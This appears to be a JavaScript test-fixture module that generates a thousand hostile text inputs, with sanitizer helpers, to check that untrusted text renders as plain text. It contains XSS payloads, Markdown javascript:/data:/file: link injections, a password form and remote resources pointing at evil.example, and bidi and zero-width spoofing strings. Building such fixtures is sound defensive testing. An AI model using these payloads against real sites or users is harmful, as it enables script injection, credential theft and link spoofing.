// Texts by which somebody might try to become more than text: a thousand, made from a readable list by a generator that gives the
// same ones each time.
//
// The invariant: PLAIN holds nothing that CommonMark takes for a mark, so each of it must be seen exactly as it was typed. Of MARKED every word must be seen.

const BIDI = "\u202e\u202d\u202b\u2066\u2067\u2069\u200f\u061c";
const ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f";

const PLAIN = [
  // Elements, open and closed, whole and broken.
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "</textarea></title></style><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:x onerror=\"alert('1')\"//>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\">",
  "<object data=javascript:alert(1)>",
  "<embed src=data:text/html,hello>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>body{display:none}</style>",
  "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">",
  "<form action=//evil.example><input name=password autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<a href=javascript:alert(1)>click</a>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<x contenteditable onblur=alert(1)>lose focus</x>",
  "<!DOCTYPE html><html><head></head>",
  "\"><script>alert(1)</script>",
  "' autofocus onfocus=alert(1) x='",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "hidden=\"until-found\" popover=auto",
  // Writing that turns around, hides or grows.
  `safe${BIDI}gpj.exe`,
  "\u202eright to left until the end of all",
  "\u2067an isolate that nobody closes",
  "עברית and العربية in one line, (with) brackets",
  `pay${ZERO_WIDTH}pal`,
  "\u200b\u200b\u200bx",
  "e" + "\u0301\u0325\u0489".repeat(60),
  "👩‍👩‍👧‍👦".repeat(30),
  "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
  "﷽﷽﷽﷽﷽﷽﷽﷽",
  "𒐫𒐫𒐫𒐫𒐫𒐫",
  "\ufffd\ufffe\uffff\u{10ffff}",
  "\u0001\u0007\u001b[31mred\u001b[0m",
  "one\u2028two\u2029three\u0085four",
  // Much of it.
  "W".repeat(1_500),
  "<b>".repeat(400),
  "<div>".repeat(250) + "deep",
  "( ".repeat(500),
  "https://example.com/" + "a".repeat(900),
  "漢字".repeat(500),
  "i ".repeat(700),
];

const MARKED = [
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](java&#10;script:alert(1))",
  "[click](  javascript:alert(1)  \"title\")",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/path)",
  "[click](/api/session)",
  "[click](https://good.example\" onclick=\"alert)",
  "[click](https://good.example 'x\" onmouseover=\"alert')",
  "[https://good.example](https://evil.example)",
  "<javascript:alert(1)>",
  "<https://example.com/\"onmouseover=alert>",
  "![alternative](https://evil.example/pixel.png)",
  "![alternative](x\" onerror=\"alert)",
  "[reference][name]\n\n[name]: javascript:alert(1)",
  "&lt;script&gt;alert&lt;/script&gt;",
  "&#60;img src=x onerror=alert&#62;",
  "```\"><script>alert</script>\ncode </code></pre><script>\n```",
  "`<script>alert</script>`",
  "**bold <script>alert</script>**",
  "_a **b ~~c `d [e](f) g` h~~ i** j_",
  "> ".repeat(120) + "quoted deep",
  "- ".repeat(120) + "listed deep",
  "1. ".repeat(80) + "numbered deep",
  "*".repeat(1_000) + "stars" + "*".repeat(1_000),
  "[".repeat(800) + "brackets" + "]".repeat(800),
  "**a _b ".repeat(200),
  "[a](".repeat(300) + "links",
  "`".repeat(900) + " ticks",
  "~~".repeat(600) + "struck",
  "999999999. a number",
  "# ".repeat(40) + "headings",
  "| table |\n|---|\n| <img src=x onerror=alert> |",
  "\\<script\\>alert\\</script\\>",
  "nothing\u0000behind",
];

export const COUNT = 1_000;

// `count` texts: each seed by itself at least once, then two or three of a kind in a row. `plain` says how it must be seen.
export function hostileTexts(count = COUNT) {
  const random = numbers(20_261_124);
  const pick = (from) => from[random() % from.length];
  const alone = [...PLAIN.map((text) => ({ text, plain: true })), ...MARKED.map((text) => ({ text, plain: false }))];
  const joined = Array.from({ length: count - alone.length }, (_, number) => {
    const plain = number % 3 !== 0;
    const from = plain ? PLAIN : MARKED;
    const parts = Array.from({ length: 2 + (random() % 2) }, () => pick(from));
    return { text: parts.join(pick([" ", "\n", "", " and ", "\n\n"])), plain };
  });
  // Marks count at the begin of a line most.
  const between = (plain) => (plain ? " " : "\n\n");
  return [...alone, ...joined].map(({ text, plain }, number) => {
    const begin = first(`begin${number}${between(plain)}${text}`, 3_900);
    return { text: `${begin}${between(plain)}end${number}`, plain };
  });
}

// What the server takes of it: so many characters, no white space at the ends, and what `without` names left out.
export function fitting(text, scalars, without = /(?!)/gu) {
  return trimmed(first(trimmed(text.replace(without, "")), scalars));
}

const UNSEEN = /[\p{C}\p{Default_Ignorable_Code_Point}\u2800\ufff0-\uffff]/gu;

// A name: single spaces, and nothing that cannot be seen.
export const named = (text) => fitting(text.replace(/\p{White_Space}+/gu, " "), 32, UNSEEN).replace(/ +/gu, " ");

// A file's name: no way to another folder, no controls, no marks of direction.
export const fileName = (text) => fitting(text, 200, /[/\\\p{Cc}\p{Cf}]/gu).replace(/^\.+|[. ]+$/gu, "");

// JavaScript's own trim has another idea of what is white.
const trimmed = (text) => text.replace(/^\p{White_Space}+|\p{White_Space}+$/gu, "");
const first = (text, scalars) => [...text].slice(0, scalars).join("");

// The same numbers for the same seed (mulberry32).
function numbers(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return (mixed ^ (mixed >>> 14)) >>> 0;
  };
}
